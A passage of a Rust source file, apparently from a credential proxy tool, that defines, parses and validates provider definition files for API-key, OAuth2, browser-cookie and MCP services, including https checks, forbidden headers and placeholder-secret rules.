//! Provider definitions: the file format, its parser and its validation.
//!
//! Our format (JSON; `//` and `/* */` comments allowed):
//!
//! ```jsonc
//! {
//!   "name": "openai",                      // [A-Za-z0-9][A-Za-z0-9._-]*
//!   "display_name": "OpenAI",
//!   "type": "llm",                         // app | llm | mcp | browser
//!   "auth_type": "api_key",                // api_key | oauth2 | browser
//!   "flow": "api_key",                     // api_key | pkce | device_code | dcr_pkce | client_credentials | browser
//!   "api_url": ["api.openai.com"],         // host rules, see `hosts`
//!   "api_key": {
//!     "header_name": "Authorization",      // default Authorization
//!     "header_prefix": "Bearer",           // default Bearer; null or "" sends the bare key
//!     "format": "header",                  // header | basic | query
//!     "env_var": "OPENAI_API_KEY",
//!     "key_pattern": "^sk-[A-Za-z0-9_-]{20,}$",
//!     "key_pattern_hint": "OpenAI keys start with `sk-`"
//!   },
//!   "export": { "OPENAI_API_KEY": "api_key" }, // env var -> api_key | access_token | refresh_token | base_url | api_url
//!   "placeholder": { "prefix": "sk-", "length": 51 } // what the child holds instead (optional)
//! }
//! ```
//!
//! Files written for the Python reference are read too: its top-level
//! `"GH_TOKEN": "ACCESS_TOKEN"` export entries, `export.env`, `authorization_method`,
//! and its informational keys (`schema_version`, `logo`, `metadata`,
//! `supports_dcr`, …). Any other unknown key is an error naming the file, so
//! a typo like `api_ulr` cannot silently drop a provider's hosts.

use std::collections::BTreeMap;

use serde::{Deserialize, Serialize};
use serde_json::{Map, Value};

use super::hosts::HostRule;

/// What kind of service a provider is.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize, Default)]
#[serde(rename_all = "snake_case")]
pub enum ProviderKind {
    #[default]
    App,
    Llm,
    Mcp,
    Browser,
}

/// How credentials are obtained and what is stored.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum AuthType {
    ApiKey,
    Oauth2,
    Browser,
}

impl AuthType {
    /// The snake_case name.
    pub fn as_str(self) -> &'static str {
        match self {
            AuthType::ApiKey => "api_key",
            AuthType::Oauth2 => "oauth2",
            AuthType::Browser => "browser",
        }
    }
}

/// The login flow.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum Flow {
    ApiKey,
    Pkce,
    DeviceCode,
    DcrPkce,
    ClientCredentials,
    Browser,
}

/// How an API key is written into the request.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize, Default)]
#[serde(rename_all = "snake_case")]
pub enum KeyFormat {
    /// `header_name: header_prefix key`.
    #[default]
    Header,
    /// `Authorization: Basic base64(key + ":")`.
    Basic,
    /// `?query_param=key`.
    Query,
}

/// Client authentication at the token endpoint.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize, Default)]
#[serde(rename_all = "snake_case")]
pub enum TokenAuth {
    #[default]
    Body,
    Basic,
}

/// Body format of device-code token polling.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize, Default)]
#[serde(rename_all = "snake_case")]
pub enum DeviceTokenRequest {
    #[default]
    #[serde(alias = "oauth2_form")]
    Form,
    Json,
}

fn default_header_name() -> String {
    "Authorization".into()
}
fn default_header_prefix() -> Option<String> {
    Some("Bearer".into())
}
fn yes() -> bool {
    true
}
fn is_default<T: Default + PartialEq>(v: &T) -> bool {
    *v == T::default()
}
fn is_true(v: &bool) -> bool {
    *v
}

/// The `api_key` block.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct ApiKeySpec {
    #[serde(default = "default_header_name")]
    pub header_name: String,
    /// `None` sends the bare key.
    #[serde(default = "default_header_prefix")]
    pub header_prefix: Option<String>,
    #[serde(default, skip_serializing_if = "is_default")]
    pub format: KeyFormat,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub query_param: Option<String>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub env_var: Option<String>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub key_pattern: Option<String>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub key_pattern_hint: Option<String>,
}

/// The `oauth` block.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct OAuthSpec {
    /// Default for `{base_url}` in the endpoint URLs (self-hosted instances override it).
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub base_url: Option<String>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub authorization_url: Option<String>,
    pub token_url: String,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub device_authorization_url: Option<String>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub revocation_url: Option<String>,
    #[serde(default)]
    pub scopes: Vec<String>,
    #[serde(default, skip_serializing_if = "BTreeMap::is_empty")]
    pub authorization_params: BTreeMap<String, String>,
    #[serde(
        default,
        alias = "authorization_method",
        skip_serializing_if = "is_default"
    )]
    pub token_auth: TokenAuth,
    #[serde(default, skip_serializing_if = "is_default")]
    pub device_token_request: DeviceTokenRequest,
    #[serde(default = "yes", skip_serializing_if = "is_true")]
    pub pkce: bool,
    /// A public client id shipped with the definition, if the provider has one.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub client_id: Option<String>,
    // Informational keys of the reference's files, accepted and dropped.
    #[serde(default, skip_serializing)]
    pub supports_device_code: Option<bool>,
    #[serde(default, skip_serializing)]
    pub supports_dcr: Option<bool>,
}

/// The `registration` block (dynamic client registration, RFC 7591).
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct RegistrationSpec {
    pub registration_endpoint: String,
}

/// The `mcp` block of a remote MCP server's provider: the URL an MCP
/// client connects to. One of `api_url`'s rules must cover it; on a host
/// that also serves other things, that rule is the endpoint's path, so the
/// credential goes to the MCP server and nowhere else on the host.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct McpSpec {
    /// `https://host[:port]/path[?query]`.
    pub url: String,
    /// How the server talks MCP, when its documentation says.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub transport: Option<McpTransport>,
}

/// An MCP transport.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "kebab-case")]
pub enum McpTransport {
    /// Streamable HTTP (`claude mcp add --transport http`).
    StreamableHttp,
    /// Server-sent events, the older transport (`--transport sse`).
    Sse,
}

impl McpTransport {
    /// In words.
    pub fn description(self) -> &'static str {
        match self {
            McpTransport::StreamableHttp => "streamable HTTP",
            McpTransport::Sse => "server-sent events",
        }
    }

    /// As `claude mcp add --transport` spells it.
    pub fn flag(self) -> &'static str {
        match self {
            McpTransport::StreamableHttp => "http",
            McpTransport::Sse => "sse",
        }
    }
}

impl McpSpec {
    /// The endpoint as a host rule (no query): what a request to it looks
    /// like to the router.
    pub fn endpoint_rule(&self) -> Result<HostRule, DefError> {
        check_https("mcp.url", &self.url)?;
        // `provider show` prints the URL in a command line to paste: only
        // the characters of a plain URL (RFC 3986, without those a shell
        // would act on).
        if let Some(c) = self
            .url
            .chars()
            .find(|c| !(c.is_ascii_alphanumeric() || "-._~:/?#[]@!*+,=%".contains(*c)))
        {
            return Err(DefError::new(format!(
                "mcp.url may not contain `{}`",
                c.escape_default()
            )));
        }
        let no_query = self.url.split(['?', '#']).next().unwrap_or("");
        HostRule::parse(no_query).map_err(|e| DefError {
            message: format!("mcp.url: {}", e.message),
            hint: e.hint,
        })
    }
}

/// The `browser` block of cookie-session providers: where the user signs
/// in, which cookies of which domains make the session, and what the proxy
/// sends besides the `Cookie` header.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize, Default)]
#[serde(deny_unknown_fields)]
pub struct BrowserSpec {
    /// The page the login opens (https).
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub entry_url: Option<String>,
    /// The cookie domains read: a cookie of `www.x.com` or `.x.com` counts
    /// for `x.com`. Default: the exact hosts of `api_url`.
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub domains: Vec<String>,
    /// The cookies captured, stored and sent; the login completes once all
    /// of them exist. No other cookie is read.
    #[serde(default)]
    pub cookies: Vec<String>,
    /// Headers whose value is a cookie's (CSRF tokens such as LinkedIn's
    /// `csrf-token`, the `JSESSIONID` value without its quotes).
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub extract: Vec<ExtractSpec>,
    /// Fixed headers sent with the session (not secrets).
    #[serde(default, skip_serializing_if = "BTreeMap::is_empty")]
    pub extra_headers: BTreeMap<String, String>,
    /// How long a session is used when `ttl_from_cookie` gives no expiry.
    #[serde(default = "default_ttl_hours")]
    pub ttl_hours: u32,
    /// The cookie whose own expiry ends the connection.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub ttl_from_cookie: Option<String>,
}

fn default_ttl_hours() -> u32 {
    24
}

/// One `extract` entry: `header: prefix + value of cookie` (quotes removed).
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct ExtractSpec {
    pub cookie: String,
    pub header: String,
    #[serde(default, skip_serializing_if = "String::is_empty")]
    pub prefix: String,
}

impl BrowserSpec {
    /// True when a cookie stored for `cookie_domain` belongs to one of the
    /// provider's domains (the same name, or a subdomain of one).
    pub fn covers_domain(&self, cookie_domain: &str) -> bool {
        let d = cookie_domain.trim_start_matches('.').to_ascii_lowercase();
        self.domains.iter().any(|want| {
            let want = want.trim_start_matches('.');
            d == want || d.strip_suffix(want).is_some_and(|rest| rest.ends_with('.'))
        })
    }
}

/// What an exported environment variable holds.
#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord)]
pub enum ExportRole {
    ApiKey,
    AccessToken,
    RefreshToken,
    BaseUrl,
    ApiUrl,
    Cookie(String),
}

impl ExportRole {
    fn parse(s: &str) -> Option<ExportRole> {
        Some(match s {
            "api_key" | "API_TOKEN" | "API_KEY" => ExportRole::ApiKey,
            "access_token" | "ACCESS_TOKEN" => ExportRole::AccessToken,
            "refresh_token" | "REFRESH_TOKEN" => ExportRole::RefreshToken,
            "base_url" | "BASE_URL" => ExportRole::BaseUrl,
            "api_url" | "API_URL" => ExportRole::ApiUrl,
            _ => {
                return s
                    .strip_prefix("cookie:")
                    .filter(|c| !c.is_empty())
                    .map(|c| ExportRole::Cookie(c.into()));
            }
        })
    }

    /// The name used in our files.
    pub fn as_string(&self) -> String {
        match self {
            ExportRole::ApiKey => "api_key".into(),
            ExportRole::AccessToken => "access_token".into(),
            ExportRole::RefreshToken => "refresh_token".into(),
            ExportRole::BaseUrl => "base_url".into(),
            ExportRole::ApiUrl => "api_url".into(),
            ExportRole::Cookie(c) => format!("cookie:{c}"),
        }
    }
}

impl Serialize for ExportRole {
    fn serialize<S: serde::Serializer>(&self, s: S) -> Result<S::Ok, S::Error> {
        s.serialize_str(&self.as_string())
    }
}

impl<'de> Deserialize<'de> for ExportRole {
    fn deserialize<D: serde::Deserializer<'de>>(d: D) -> Result<Self, D::Error> {
        let s = String::deserialize(d)?;
        ExportRole::parse(&s).ok_or_else(|| {
            serde::de::Error::custom(format!(
                "unknown export role `{s}` (expected api_key, access_token, refresh_token, base_url, api_url or cookie:NAME)"
            ))
        })
    }
}

/// A validated provider definition.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct ProviderDef {
    pub name: String,
    #[serde(default)]
    pub display_name: String,
    #[serde(rename = "type", default)]
    pub kind: ProviderKind,
    pub auth_type: AuthType,
    pub flow: Flow,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub description: Option<String>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub docs_url: Option<String>,
    pub api_url: Vec<String>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub api_key: Option<ApiKeySpec>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub oauth: Option<OAuthSpec>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub registration: Option<RegistrationSpec>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub browser: Option<BrowserSpec>,
    /// An MCP server's endpoint (MCP providers).
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub mcp: Option<McpSpec>,
    #[serde(default)]
    pub export: BTreeMap<String, ExportRole>,
    /// The shape of the placeholder a run's child holds in place of the
    /// secret (`sk-…` for SDKs that check the key's format). Default:
    /// `authsome-` and 32 random characters.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub placeholder: Option<PlaceholderShape>,
    /// `api_url`, parsed. Filled by validation.
    #[serde(skip)]
    pub rules: Vec<HostRule>,
}

/// The `placeholder` block: a fixed prefix, then random letters and digits
/// up to `length` characters in all.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct PlaceholderShape {
    pub prefix: String,
    pub length: usize,
}

impl PlaceholderShape {
    /// The shape of providers that give none.
    pub fn default_shape() -> PlaceholderShape {
        PlaceholderShape {
            prefix: "authsome-".into(),
            length: 41,
        }
    }

    /// Random characters a placeholder has at least beyond its prefix: a
    /// placeholder must be unguessable and must never occur by chance in
    /// a request to another host (the tripwire looks for it there).
    pub const MIN_RANDOM: usize = 24;
    /// The longest placeholder (the redactor holds back at most this much).
    pub const MAX_LEN: usize = 256;

    fn validate(&self) -> Result<(), DefError> {
        if !self
            .prefix
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'-' | b'_' | b'.'))
        {
            return Err(DefError::new(format!(
                "placeholder.prefix `{}` may hold only letters, digits, `-`, `_` and `.`",
                self.prefix
            )));
        }
        if self.length > Self::MAX_LEN || self.length < self.prefix.len() + Self::MIN_RANDOM {
            return Err(DefError {
                message: format!(
                    "placeholder.length {} is out of range for the prefix `{}`",
                    self.length, self.prefix
                ),
                hint: Some(format!(
                    "the length counts the prefix and at least {} random characters, at most {} in all",
                    Self::MIN_RANDOM,
                    Self::MAX_LEN
                )),
            });
        }
        Ok(())
    }
}

/// A parse or validation failure; the caller adds the file name.
#[derive(Debug, Clone)]
pub struct DefError {
    pub message: String,
    pub hint: Option<String>,
}

impl DefError {
    fn new(message: impl Into<String>) -> Self {
        DefError {
            message: message.into(),
            hint: None,
        }
    }
}

/// How the credential of a provider is written into a request.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Injection {
    /// Header (or query parameter) name.
    pub name: String,
    /// Text before the value, with its trailing space (`"Bearer "`), or empty.
    pub prefix: String,
    pub format: KeyFormat,
    /// Which stored field supplies the value.
    pub source: ExportRole,
}

impl ProviderDef {
    /// Parses a provider file (JSON with comments) and validates it.
    pub fn parse(text: &str) -> Result<ProviderDef, DefError> {
        let stripped = strip_comments(text);
        let value: Value = serde_json::from_str(&stripped)
            .map_err(|e| DefError::new(format!("not valid JSON: {e}")))?;
        let Value::Object(obj) = value else {
            return Err(DefError::new("expected a JSON object"));
        };
        let obj = normalize_reference_form(obj)?;
        let mut def: ProviderDef =
            serde_json::from_value(Value::Object(obj)).map_err(|e| DefError::new(e.to_string()))?;
        def.validate()?;
        Ok(def)
    }

    /// Our canonical JSON form (what `provider show --json` prints and the vault stores).
    pub fn to_json(&self) -> String {
        serde_json::to_string_pretty(self).unwrap_or_default()
    }

    /// What a stored credential of this provider is bound to: the hosts and
    /// path prefixes it is sent to, the header (or query parameter) name,
    /// prefix and form it is written in, and the OAuth endpoints that receive
    /// tokens. A definition that changes any of these must not silently carry
    /// existing connections over.
    pub fn binding(&self) -> String {
        let mut hosts: Vec<&str> = self.api_url.iter().map(|s| s.trim()).collect();
        hosts.sort_unstable();
        hosts.dedup();
        let injection = self.injection().map(|i| {
            format!(
                "{}\0{}\0{:?}\0{:?}",
                i.name.to_ascii_lowercase(),
                i.prefix,
                i.format,
                i.source
            )
        });
        let oauth = self.oauth.as_ref().map(|o| {
            format!(
                "{}\0{}\0{}",
                o.token_url,
                o.revocation_url.as_deref().unwrap_or(""),
                o.base_url.as_deref().unwrap_or("")
            )
        });
        let browser = self.browser.as_ref().map(|b| {
            serde_json::json!({"domains": b.domains, "cookies": b.cookies, "extract": b.extract, "extra_headers": b.extra_headers})
        });
        serde_json::json!({"hosts": hosts, "injection": injection, "oauth": oauth, "browser": browser}).to_string()
    }

    /// The header (or query parameter) the proxy writes for this provider.
    pub fn injection(&self) -> Option<Injection> {
        match self.auth_type {
            AuthType::ApiKey => {
                let k = self.api_key.as_ref()?;
                Some(match k.format {
                    KeyFormat::Header => Injection {
                        name: k.header_name.clone(),
                        prefix: k
                            .header_prefix
                            .as_deref()
                            .filter(|p| !p.is_empty())
                            .map(|p| format!("{p} "))
                            .unwrap_or_default(),
                        format: KeyFormat::Header,
                        source: ExportRole::ApiKey,
                    },
                    KeyFormat::Basic => Injection {
                        name: k.header_name.clone(),
                        prefix: "Basic ".into(),
                        format: KeyFormat::Basic,
                        source: ExportRole::ApiKey,
                    },
                    KeyFormat::Query => Injection {
                        name: k.query_param.clone()?,
                        prefix: String::new(),
                        format: KeyFormat::Query,
                        source: ExportRole::ApiKey,
                    },
                })
            }
            AuthType::Oauth2 => Some(Injection {
                name: "Authorization".into(),
                prefix: "Bearer ".into(),
                format: KeyFormat::Header,
                source: ExportRole::AccessToken,
            }),
            AuthType::Browser => Some(Injection {
                name: "Cookie".into(),
                prefix: String::new(),
                format: KeyFormat::Header,
                source: ExportRole::Cookie(
                    self.browser
                        .as_ref()
                        .map(|b| b.cookies.join(","))
                        .unwrap_or_default(),
                ),
            }),
        }
    }

    /// An OAuth endpoint with `{base_url}` filled in from `base_url` (or the definition's default).
    pub fn endpoint(&self, url: &str, base_url: Option<&str>) -> String {
        let base = base_url
            .or(self.oauth.as_ref().and_then(|o| o.base_url.as_deref()))
            .unwrap_or("");
        url.replace("{base_url}", base.trim_end_matches('/'))
    }

    fn validate(&mut self) -> Result<(), DefError> {
        validate_name(&self.name)?;
        if self.display_name.trim().is_empty() {
            self.display_name = self.name.clone();
        }
        if self.display_name.chars().count() > 80 {
            return Err(DefError::new(
                "display_name is longer than 80 characters".to_string(),
            ));
        }
        let flow_ok = match self.auth_type {
            AuthType::ApiKey => self.flow == Flow::ApiKey,
            AuthType::Oauth2 => matches!(
                self.flow,
                Flow::Pkce | Flow::DeviceCode | Flow::DcrPkce | Flow::ClientCredentials
            ),
            AuthType::Browser => self.flow == Flow::Browser,
        };
        if !flow_ok {
            return Err(DefError::new(format!(
                "flow `{}` does not fit auth_type `{}`",
                serde_json::to_value(self.flow)
                    .ok()
                    .and_then(|v| v.as_str().map(String::from))
                    .unwrap_or_default(),
                self.auth_type.as_str()
            )));
        }
        match self.auth_type {
            AuthType::ApiKey if self.api_key.is_none() => {
                return Err(DefError::new(
                    "auth_type `api_key` needs an `api_key` block",
                ));
            }
            // A `dcr_pkce` provider may name only its resource: the
            // endpoints are then discovered (RFC 9728 + RFC 8414).
            AuthType::Oauth2 if self.oauth.is_none() && self.flow != Flow::DcrPkce => {
                return Err(DefError::new("auth_type `oauth2` needs an `oauth` block"));
            }
            AuthType::Browser if self.browser.is_none() => {
                return Err(DefError::new("auth_type `browser` needs a `browser` block"));
            }
            _ => {}
        }
        if self.api_url.is_empty() {
            return Err(DefError::new(
                "`api_url` names no host, so no request would ever get this credential",
            ));
        }
        let mut rules = Vec::new();
        for raw in &self.api_url {
            let rule = HostRule::parse(raw).map_err(|e| DefError {
                message: format!("api_url: {}", e.message),
                hint: e.hint,
            })?;
            if rules.contains(&rule) {
                return Err(DefError::new(format!("api_url lists `{rule}` twice")));
            }
            rules.push(rule);
        }
        self.api_url = rules.iter().map(ToString::to_string).collect();
        self.rules = rules;
        if let Some(k) = &self.api_key {
            validate_api_key(k)?;
        }
        if let Some(p) = &self.placeholder {
            p.validate()?;
            // SDKs check the key's format: a placeholder that fails the
            // provider's own pattern would not start them.
            if let Some(pat) = self.api_key.as_ref().and_then(|k| k.key_pattern.as_ref())
                && let Ok(re) = regex_lite::Regex::new(pat)
            {
                let sample: String = p
                    .prefix
                    .chars()
                    .chain("aB3".chars().cycle())
                    .take(p.length)
                    .collect();
                if !re.is_match(&sample) {
                    return Err(DefError {
                        message: format!(
                            "placeholder: `{}` followed by random letters and digits does not match api_key.key_pattern `{pat}`",
                            p.prefix
                        ),
                        hint: Some(
                            "give the prefix the pattern requires, and a length it allows".into(),
                        ),
                    });
                }
            }
        }
        if let Some(o) = &self.oauth {
            self.validate_oauth(o)?;
        }
        if self.auth_type == AuthType::Browser
            && let Some(mut b) = self.browser.take()
        {
            if b.domains.is_empty() {
                b.domains = self
                    .rules
                    .iter()
                    .map(|r| match &r.host {
                        super::hosts::HostPattern::Exact(h) => h.clone(),
                        super::hosts::HostPattern::Suffix(s) => s.clone(),
                    })
                    .collect();
                b.domains.dedup();
            }
            validate_browser(&b)?;
            self.browser = Some(b);
        }
        if let Some(m) = &self.mcp {
            let ep = m.endpoint_rule()?;
            let super::hosts::HostPattern::Exact(host) = &ep.host else {
                return Err(DefError::new("mcp.url names a wildcard host"));
            };
            let path = ep.path_prefix.as_deref().unwrap_or("/");
            if !self
                .rules
                .iter()
                .any(|r| r.matches(host, ep.effective_port(), path))
            {
                return Err(DefError {
                    message: format!(
                        "mcp.url `{}` is not covered by api_url, so the MCP server would never get the credential",
                        m.url.escape_debug()
                    ),
                    hint: Some(format!("add `{ep}` to api_url")),
                });
            }
        }
        if let Some(r) = &self.registration {
            check_https(
                "registration.registration_endpoint",
                &r.registration_endpoint,
            )?;
        }
        for (env, role) in &self.export {
            if env.is_empty()
                || !env
                    .bytes()
                    .all(|b| b.is_ascii_uppercase() || b.is_ascii_digit() || b == b'_')
                || env.as_bytes()[0].is_ascii_digit()
            {
                return Err(DefError::new(format!(
                    "export: `{env}` is not an environment variable name (A-Z, 0-9, _)"
                )));
            }
            let fits = matches!(
                (self.auth_type, role),
                (_, ExportRole::BaseUrl | ExportRole::ApiUrl)
                    | (AuthType::ApiKey, ExportRole::ApiKey)
                    | (
                        AuthType::Oauth2,
                        ExportRole::AccessToken | ExportRole::RefreshToken
                    )
                    | (AuthType::Browser, ExportRole::Cookie(_))
            );
            if !fits {
                return Err(DefError::new(format!(
                    "export: `{env}` takes `{}`, which a `{}` provider does not store",
                    role.as_string(),
                    self.auth_type.as_str()
                )));
            }
        }
        Ok(())
    }

    fn validate_oauth(&self, o: &OAuthSpec) -> Result<(), DefError> {
        if let Some(b) = &o.base_url {
            check_https("oauth.base_url", b)?;
        }
        let needs_authorize = matches!(self.flow, Flow::Pkce | Flow::DcrPkce);
        if needs_authorize && o.authorization_url.is_none() {
            return Err(DefError::new("flow `pkce` needs `oauth.authorization_url`"));
        }
        if self.flow == Flow::DeviceCode && o.device_authorization_url.is_none() {
            return Err(DefError::new(
                "flow `device_code` needs `oauth.device_authorization_url`",
            ));
        }
        let urls = [
            ("oauth.authorization_url", o.authorization_url.as_deref()),
            ("oauth.token_url", Some(o.token_url.as_str())),
            (
                "oauth.device_authorization_url",
                o.device_authorization_url.as_deref(),
            ),
            ("oauth.revocation_url", o.revocation_url.as_deref()),
        ];
        for (field, url) in urls {
            let Some(url) = url else { continue };
            if url.contains("{base_url}") && o.base_url.is_none() {
                return Err(DefError::new(format!(
                    "{field} uses {{base_url}} but `oauth.base_url` is not set"
                )));
            }
            check_https(field, &self.endpoint(url, None))?;
        }
        for (k, v) in &o.authorization_params {
            if k.is_empty() || has_control(k) || has_control(v) {
                return Err(DefError::new(
                    "oauth.authorization_params may not contain control characters",
                ));
            }
        }
        Ok(())
    }
}

fn validate_name(name: &str) -> Result<(), DefError> {
    let ok = !name.is_empty()
        && name.len() <= 64
        && name.as_bytes()[0].is_ascii_alphanumeric()
        && name
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'.' | b'_' | b'-'))
        && !name.contains("..");
    if ok {
        Ok(())
    } else {
        Err(DefError {
            message: format!("name `{}` is not allowed", name.escape_debug()),
            hint: Some(
                "use letters, digits, `.`, `_` and `-`, starting with a letter or digit".into(),
            ),
        })
    }
}

fn validate_api_key(k: &ApiKeySpec) -> Result<(), DefError> {
    if !is_token(&k.header_name) {
        return Err(DefError::new(format!(
            "api_key.header_name `{}` is not a valid header name",
            k.header_name.escape_debug()
        )));
    }

    if FORBIDDEN_HEADERS.contains(&k.header_name.to_ascii_lowercase().as_str()) {
        return Err(DefError::new(format!(
            "api_key.header_name `{}` cannot carry a credential",
            k.header_name
        )));
    }
    if let Some(p) = &k.header_prefix
        && (has_control(p) || !p.is_ascii() || p.trim() != p)
    {
        return Err(DefError::new(
            "api_key.header_prefix must be visible ASCII without surrounding spaces or line breaks",
        ));
    }
    match (k.format, &k.query_param) {
        (KeyFormat::Query, None) => {
            return Err(DefError::new(
                "api_key.format `query` needs api_key.query_param",
            ));
        }
        (KeyFormat::Query, Some(q)) if !is_token(q) => {
            return Err(DefError::new(format!(
                "api_key.query_param `{}` is not a valid parameter name",
                q.escape_debug()
            )));
        }
        _ => {}
    }
    if let Some(pat) = &k.key_pattern {
        regex_lite::Regex::new(pat)
            .map_err(|e| DefError::new(format!("api_key.key_pattern does not compile: {e}")))?;
    }
    Ok(())
}

/// Headers a definition may not set: framing, routing, the proxy's own,
/// and the `Cookie` the proxy writes itself.
const FORBIDDEN_HEADERS: &[&str] = &[
    "host",
    "content-length",
    "transfer-encoding",
    "connection",
    "proxy-authorization",
    "proxy-connection",
    "upgrade",
    "te",
    "trailer",
    "keep-alive",
    "cookie",
];

fn validate_browser(b: &BrowserSpec) -> Result<(), DefError> {
    match &b.entry_url {
        Some(u) => check_https("browser.entry_url", u)?,
        None => {
            return Err(DefError::new(
                "a browser provider needs `browser.entry_url` (the page where the user signs in)",
            ));
        }
    }
    if b.cookies.is_empty() {
        return Err(DefError::new(
            "`browser.cookies` names no cookie, so a login could never complete",
        ));
    }
    for c in &b.cookies {
        if !is_token(c) {
            return Err(DefError::new(format!(
                "browser.cookies: `{}` is not a cookie name",
                c.escape_debug()
            )));
        }
    }
    for d in &b.domains {
        let d = d.trim_start_matches('.');
        if d.is_empty()
            || !d
                .bytes()
                .all(|c| c.is_ascii_alphanumeric() || c == b'-' || c == b'.')
        {
            return Err(DefError::new(format!(
                "browser.domains: `{}` is not a domain name",
                d.escape_debug()
            )));
        }
    }
    let header_ok = |field: &str, name: &str| -> Result<(), DefError> {
        if !is_token(name) || FORBIDDEN_HEADERS.contains(&name.to_ascii_lowercase().as_str()) {
            return Err(DefError::new(format!(
                "{field}: `{}` cannot be sent as a header",
                name.escape_debug()
            )));
        }
        Ok(())
    };
    for e in &b.extract {
        if !b.cookies.contains(&e.cookie) {
            return Err(DefError::new(format!(
                "browser.extract reads cookie `{}`, which `browser.cookies` does not list",
                e.cookie
            )));
        }
        header_ok("browser.extract", &e.header)?;
        if has_control(&e.prefix) || !e.prefix.is_ascii() {
            return Err(DefError::new(
                "browser.extract prefix must be visible ASCII",
            ));
        }
    }
    for (k, v) in &b.extra_headers {
        header_ok("browser.extra_headers", k)?;
        if has_control(v) || !v.is_ascii() {
            return Err(DefError::new(
                "browser.extra_headers values must be visible ASCII",
            ));
        }
    }
    if !(1..=24 * 366).contains(&b.ttl_hours) {
        return Err(DefError::new(
            "browser.ttl_hours must be between 1 and 8784 (a year)",
        ));
    }
    if let Some(c) = &b.ttl_from_cookie
        && !b.cookies.contains(c)
    {
        return Err(DefError::new(format!(
            "browser.ttl_from_cookie names `{c}`, which `browser.cookies` does not list"
        )));
    }
    Ok(())
}

/// RFC 9110 token characters.
fn is_token(s: &str) -> bool {
    !s.is_empty()
        && s.bytes()
            .all(|b| b.is_ascii_alphanumeric() || b"!#$%&'*+-.^_`|~".contains(&b))
}

fn has_control(s: &str) -> bool {
    s.chars().any(|c| c.is_control())
}

fn check_https(field: &str, url: &str) -> Result<(), DefError> {
    let rest = url.strip_prefix("https://").ok_or_else(|| DefError {
        message: format!(
            "{field} must be an https:// URL (got `{}`)",
            url.escape_debug()
        ),
        hint: Some("tokens and client secrets are only sent over https".into()),
    })?;
    let host = rest.split(['/', '?', '#']).next().unwrap_or("");
    if host.is_empty()
        || host.contains('@')
        || has_control(url)
        || url.contains(char::is_whitespace)
    {
        return Err(DefError::new(format!("{field} is not a valid URL")));
    }
    Ok(())
}

/// Reference-format compatibility: top-level `ENV: ROLE` entries and
/// `export.env` become our `export` map; informational keys are dropped.
fn normalize_reference_form(mut obj: Map<String, Value>) -> Result<Map<String, Value>, DefError> {
    for k in ["schema_version", "logo", "metadata"] {
        obj.remove(k);
    }
    let mut export = Map::new();
    match obj.remove("export") {
        None | Some(Value::Null) => {}
        Some(Value::Object(e)) => {
            for (k, v) in e {
                if k == "env" {
                    // reference form: { "env": { role: ENV_NAME } }
                    let Value::Object(env) = v else {
                        return Err(DefError::new("export.env must be an object"));
                    };
                    for (role, name) in env {
                        let Value::String(name) = name else {
                            return Err(DefError::new("export.env values must be strings"));
                        };
                        let role = if ExportRole::parse(&role).is_some() {
                            role
                        } else {
                            format!("cookie:{role}")
                        };
                        export.insert(name, Value::String(role));
                    }
                } else {
                    export.insert(k, v);
                }
            }
        }
        Some(_) => return Err(DefError::new("`export` must be an object")),
    }
    let upper: Vec<String> = obj
        .keys()
        .filter(|k| {
            !k.is_empty()
                && k.bytes()
                    .all(|b| b.is_ascii_uppercase() || b.is_ascii_digit() || b == b'_')
        })
        .cloned()
        .collect();
    for k in upper {
        if let Some(v) = obj.remove(&k) {
            export.insert(k, v);
        }
    }
    if let Some(Value::Object(o)) = obj.get_mut("oauth") {
        o.retain(|_, v| !v.is_null());
    }
    if let Some(Value::Object(o)) = obj.get_mut("api_key") {
